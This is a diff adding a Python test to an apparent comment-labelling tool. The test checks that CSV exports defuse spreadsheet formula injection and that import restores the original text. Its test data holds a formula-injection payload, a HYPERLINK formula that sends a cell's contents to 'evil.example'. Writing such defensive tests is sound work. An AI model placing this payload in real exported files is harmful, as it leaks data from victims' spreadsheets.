@@ -97,6 +97,41 @@ def test_import_checks_the_whole_file_first_and_export_returns_it(
     assert rows[1]["comment_id"] == held and rows[0]["source"] == "import"
 
 
+def test_an_exported_formula_is_inert_in_a_spreadsheet_and_imports_back_unchanged(
+    sessions: sessionmaker[Session], tmp_path: Path
+) -> None:
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1, "click")'
+    site_id, _ = decide_texts(sessions, CIVIL[:1])
+    source = _write(
+        tmp_path / "in.csv.gz",
+        [
+            {"comment_text": formula, "toxic": "1"},
+            {"comment_text": "+1 agreed", "toxic": "0"},
+            {"comment_text": "plain words", "toxic": "0"},
+        ],
+    )
+    with session_scope(sessions) as session:
+        import_labels(session, site_id, source, actor="@admin")
+    exported = tmp_path / "out.csv"
+    with session_scope(sessions) as session, exported.open("w", newline="") as handle:
+        rows = list(export_labels(session, site_id))
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    with exported.open(newline="") as handle:
+        cells = [(row["comment_text"], row["actor"]) for row in csv.DictReader(handle)]
+    # Opened back as a spreadsheet would read it: no cell starts a formula.
+    assert cells == [
+        (f"'{formula}", "'@admin"),
+        ("'+1 agreed", "'@admin"),
+        ("plain words", "'@admin"),
+    ]
+    with session_scope(sessions) as session:
+        import_labels(session, site_id, exported, actor="admin")
+        texts = session.scalars(select(Label.text).order_by(Label.id)).all()
+    assert texts[-3:] == [formula, "+1 agreed", "plain words"]
+
+
 def test_an_audited_approval_weighs_as_many_approvals_as_it_stands_for(
     sessions: sessionmaker[Session], tmp_path: Path
 ) -> None:
